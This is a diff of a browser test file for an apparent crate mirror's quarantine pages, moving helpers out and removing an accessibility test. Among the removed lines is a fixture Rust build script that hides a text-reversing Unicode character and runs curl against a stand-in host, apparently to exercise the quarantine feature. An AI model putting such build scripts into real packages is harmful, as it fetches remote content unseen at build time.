@@ -1,66 +1,16 @@
 /** What people do on the pages, in a real browser before a real server. */
 /// <reference lib="dom" />
 import assert from 'node:assert/strict';
-import { createRequire } from 'node:module';
 import { after, before, describe, test } from 'node:test';
-import type { Page } from 'playwright-core';
 import { closeBrowser, noBrowser, openPage } from '../support/browser.ts';
 import { buildPages } from '../support/pages.ts';
-import { type Stage, stage } from '../support/stage.ts';
-import type { Cleanup } from '../support/temp.ts';
+import { morning, signIn } from './scene.ts';
 
 const skip = noBrowser();
 before(() => {
   if (skip === undefined) buildPages();
 });
 after(() => closeBrowser());
-
-const quiet = 'fn main() { println!("cargo::rerun-if-changed=build.rs"); }\n';
-const loads = `fn main() {
-    // \u202e a comment that turns the text around
-    std::process::Command::new("curl").arg("https://files.invalid/x").status().unwrap();
-}
-`;
-
-/** A mirror on a morning: one release waits for a review, one is held, one is blocked, the rest is handed out. */
-async function morning(t: Parameters<typeof stage>[0]): Promise<Stage> {
-  const s = await stage(t);
-  s.publish('tool', '1.0.0', { buildScript: quiet });
-  for (const name of ['word', 'calm']) s.publish(name, '1.0.0');
-  for (const name of ['tool', 'word', 'calm']) await s.index(name);
-  await s.download('tool', '1.0.0');
-  s.publish('tool', '1.1.0', { pubtime: s.clock.iso(), buildScript: loads });
-  s.publish('word', '1.1.0', { pubtime: s.clock.iso() });
-  await s.pass('10m');
-  await s.act('block', { crate: 'calm', reason: 'not ours' });
-  await s.download('tool', '1.1.0');
-  return s;
-}
-
-async function signIn(page: Page, token: string): Promise<void> {
-  await page.goto('/sign-in?back=%2Fquarantine');
-  await page.getByLabel('Your token').fill(token);
-  await page.getByRole('button', { name: 'Sign in' }).click();
-  await page.getByRole('heading', { name: 'Quarantine' }).waitFor();
-}
-
-/** What axe finds that is serious: WCAG 2.2, A and AA. */
-async function serious(page: Page): Promise<readonly string[]> {
-  const source = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
-  // The pages' own policy lets no other script in: it is put in by the browser's debugger.
-  const { readFileSync } = await import('node:fs');
-  await page.evaluate(readFileSync(source, 'utf8'));
-  const found = await page.evaluate(async () => {
-    const { axe } = globalThis as unknown as {
-      axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
-    };
-    return (await axe.run()).violations.map(
-      ({ id, impact, nodes }) =>
-        `${impact} ${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`,
-    );
-  });
-  return found.filter((one) => /^(?:serious|critical)/.test(one));
-}
 
 describe('the pages in a browser', { skip }, () => {
   test('from a refused build to an approved release', async (t) => {
@@ -158,49 +108,4 @@ describe('the pages in a browser', { skip }, () => {
     assert.ok(blocked, 'no text becomes markup');
     assert.equal(await page.evaluate(() => document.cookie), '', 'no script sees the session');
   });
-
-  for (const dark of [false, true])
-    for (const width of [1280, 390])
-      test(`nobody is shut out: ${dark ? 'dark' : 'light'}, ${width} pixels wide`, async (t) => {
-        const s = await morning(t);
-        const { page, elsewhere, complaints } = await openPage(s.mirror.url, t, { dark, width });
-        await signIn(page, s.mirror.token());
-        for (const [path, heading] of pagesShown) {
-          await page.goto(path);
-          await page.getByRole('heading', { name: heading }).first().waitFor();
-          await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
-          assert.deepEqual(await serious(page), [], path);
-          const sideways = await page.evaluate(
-            () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
-          );
-          assert.ok(sideways <= 0, `${path} is ${sideways} pixels wider than the screen`);
-          await shoot(page, t, path, dark, width);
-        }
-        assert.deepEqual([elsewhere, complaints], [[], []]);
-      });
 });
-
-const pagesShown: readonly [path: string, heading: string][] = [
-  ['/', 'Today'],
-  ['/quarantine', 'Quarantine'],
-  ['/releases/tool/1.1.0', 'tool 1.1.0'],
-  ['/releases/tool/1.1.0?tab=code', 'tool 1.1.0'],
-  ['/releases/tool/1.1.0?tab=facts', 'Facts'],
-  ['/releases/tool/1.1.0?tab=history', 'tool 1.1.0'],
-  ['/audit', 'Audit log'],
-  ['/tokens', 'Tokens'],
-  ['/sign-in', 'Sign in'],
-];
-
-/** Saves what is seen where `SAFEGUARD_SCREENSHOTS` names a folder. */
-async function shoot(page: Page, _t: Cleanup, path: string, dark: boolean, width: number): Promise<void> {
-  const folder = process.env.SAFEGUARD_SCREENSHOTS;
-  if (folder === undefined) return;
-  const name = path
-    .replace(/^\/$/, 'today')
-    .replaceAll(/[^a-z]+/g, '-')
-    .replace(/^-/, '');
-  await page.screenshot({
-    path: `${folder}/${name}-${dark ? 'dark' : 'light'}-${width > 600 ? 'wide' : 'narrow'}.png`,
-  });
-}
